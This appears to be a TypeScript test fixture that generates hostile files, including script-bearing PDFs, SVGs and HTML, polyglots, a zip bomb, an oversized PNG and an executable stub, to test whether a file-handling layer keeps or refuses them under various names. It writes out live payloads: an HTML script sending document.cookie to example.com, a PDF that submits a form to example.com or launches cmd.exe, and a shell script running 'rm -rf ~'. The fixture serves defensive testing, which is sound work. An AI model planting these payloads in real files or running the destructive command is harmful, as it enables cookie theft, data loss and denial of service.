import { crc32, deflateSync } from 'node:zlib';
import { zipStream } from '../src/core/tables/zip.ts';

/** Files that would do harm to whoever opens them carelessly, made here: each under names that it may try. */

export interface HostileFile {
  what: string;
  bytes: Buffer;
  /** Names under which it is what it says: it is kept, and given so that it can do nothing. */
  kept?: readonly string[];
  /** Names under which it is refused. */
  refused?: readonly string[];
}

const html = '<!doctype html><script>top.pwned = 1; fetch("https://example.com/" + document.cookie)</script>';

/** A PDF of one page with these entries in its catalogue. */
function pdf(entries: string): Buffer {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R ${entries}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>',
  ];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj${object}endobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  return Buffer.from(
    `${text}${table}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF`,
  );
}

/** A PNG that says it is so wide and high, one bit a pixel: some 100 kB that become a gigabyte. */
export function hugePng(side: number): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.set([1, 0, 0, 0, 0], 8);
  const pixels = deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))));
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

async function zipped(name: string, content: Buffer, times = 1): Promise<Buffer> {
  async function* pieces() {
    for (let at = 0; at < times; at += 1) yield await Promise.resolve(content);
  }
  const parts: Uint8Array[] = [];
  for await (const part of zipStream([{ name, content: pieces() }])) parts.push(part);
  return Buffer.concat(parts);
}

export async function hostileFiles(): Promise<HostileFile[]> {
  const zip = await zipped('a.txt', Buffer.from('a'));
  const bomb = await zipped('xl/worksheets/sheet1.xml', Buffer.alloc(1024 * 1024), 200);
  return [
    {
      what: 'a PDF that runs a script when it is opened',
      bytes: pdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://example.com"\\))>>'),
      kept: ['a.pdf'],
      refused: ['a.png', 'a.docx', 'a.mp4'],
    },
    {
      what: 'a PDF that starts a program',
      bytes: pdf('/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>'),
      kept: ['a.pdf'],
    },
    {
      what: 'an SVG with a script',
      bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`),
      kept: ['a.svg', 'a.xml', 'a.txt'],
      refused: ['a.png', 'a.jpg'],
    },
    {
      what: 'a page with a script',
      bytes: Buffer.from(html),
      kept: ['a.html', 'a.HTM', 'a.txt', 'a'],
      refused: ['a.png', 'a.pdf', 'a.zip'],
    },
    {
      what: 'a picture that is a script as well',
      bytes: Buffer.from('GIF89a/*\x01\x01*/=0;alert(1)//', 'latin1'),
      kept: ['a.gif', 'a.js'],
      refused: ['a.png', 'a.pdf'],
    },
    {
      what: 'a PDF that is a page as well',
      bytes: Buffer.concat([Buffer.from(html), pdf('')]),
      kept: ['a.pdf', 'a.html'],
      refused: ['a.jpg', 'a.xlsx'],
    },
    {
      what: 'an archive that is a page as well',
      bytes: Buffer.concat([zip, Buffer.from(html)]),
      kept: ['a.zip', 'a.docx'],
      refused: ['a.html', 'a.png', 'a.pdf'],
    },
    {
      what: 'a page that is an archive as well',
      bytes: Buffer.concat([Buffer.from(html), zip]),
      refused: ['a.zip', 'a.docx', 'a.png'],
    },
    { what: 'an archive of 200 MB of nothing', bytes: bomb, kept: ['a.zip', 'a.xlsx'], refused: ['a.pdf'] },
    { what: 'a picture of 30,000 times 30,000', bytes: hugePng(30_000), kept: ['a.png'], refused: ['a.jpg'] },
    {
      what: 'a program',
      bytes: Buffer.from('MZ\x90\0 program', 'latin1'),
      refused: ['a.png', 'a.exe', 'a', 'a.pdf.scr', 'a.js'],
    },
    { what: 'a script for a shell', bytes: Buffer.from('#!/bin/sh\nrm -rf ~\n'), refused: ['a.sh', 'a', 'a.png'] },
  ];
}
